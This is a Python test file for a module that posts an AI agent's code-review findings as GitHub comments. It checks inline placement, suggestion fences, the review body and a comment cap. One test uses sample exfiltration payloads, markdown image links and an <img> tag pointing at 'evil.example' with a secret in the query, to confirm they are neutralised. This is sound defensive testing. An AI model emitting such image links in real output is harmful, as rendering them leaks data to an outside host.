"""runner/github/review.py's pure parts: which findings go inline, the comments' shape, the body (issue 32)."""

from __future__ import annotations

import re

from runner.github.review import MAX_INLINE, comment, placed, review_body

FILES = [{"filename": "src/fetch.py", "patch": "@@ -10,3 +10,4 @@\n a\n+b\n+c\n d\n@@ -30,2 +31,2 @@\n e\n-f\n+g"},
         {"filename": "logo.png"}]


def finding(path: str, line: int, end: int | None = None, **more: str) -> dict:
    f = {"path": path, "line": line, "severity": "warning", "title": "t", "message": "m", **more}
    return f | ({"end_line": end} if end else {})


def test_inline_only_when_every_line_is_in_one_hunk():
    inside, span, split, other, binary = (finding("src/fetch.py", 11), finding("src/fetch.py", 10, 13),
                                          finding("src/fetch.py", 12, 31), finding("src/other.py", 1),
                                          finding("logo.png", 1))
    inline, body = placed([inside, span, split, other, binary], FILES)
    assert inline == [inside, span] and body == [split, other, binary]


def test_a_span_has_start_line_and_a_suggestion_is_a_suggestion_block():
    one = comment(finding("src/fetch.py", 11))
    assert one == {"path": "src/fetch.py", "line": 11, "side": "RIGHT", "body": one["body"]}
    span = comment(finding("src/fetch.py", 10, 12, suggestion="x = 1\ny = ```2```\n"))
    assert (span["line"], span["start_line"], span["start_side"], span["side"]) == (12, 10, "RIGHT", "RIGHT")
    assert span["body"].endswith("\n````suggestion\nx = 1\ny = ```2```\n````")  # a fence the text cannot close


def test_model_text_cannot_link_or_show_an_image():
    body = comment(finding("src/fetch.py", 11, title="![x](https://evil.example/?q=secret)",
                           message="<img src=https://evil.example>"))["body"]
    assert "![x](" not in body and "\\<img" in body and not re.search(r"(?<!\\)<", body)
    listed = review_body("see ![y](https://evil.example/a)", 0, [finding("a.py", 3, title="[l](http://x)")], "u")
    assert "![y](" not in listed and "[l](" not in listed


def test_the_body_lists_the_others_and_is_never_empty():
    assert review_body("", 0, [], "https://run").startswith("**agent-run review**: 0 findings")
    text = review_body("Two issues.", 1, [finding("src/other.py", 4, 6)], "https://run", dropped=2)
    assert "1 on the diff's lines, 1 listed here" in text and "`src/other.py:4–6`" in text
    assert "2 findings named a path outside the repository" in text and "[job run](https://run)" in text


def test_at_most_max_inline_comments():
    many = [finding("src/fetch.py", 11) for _ in range(MAX_INLINE + 3)]
    inline, body = placed(many, FILES)
    assert len(inline) == MAX_INLINE and len(body) == 3
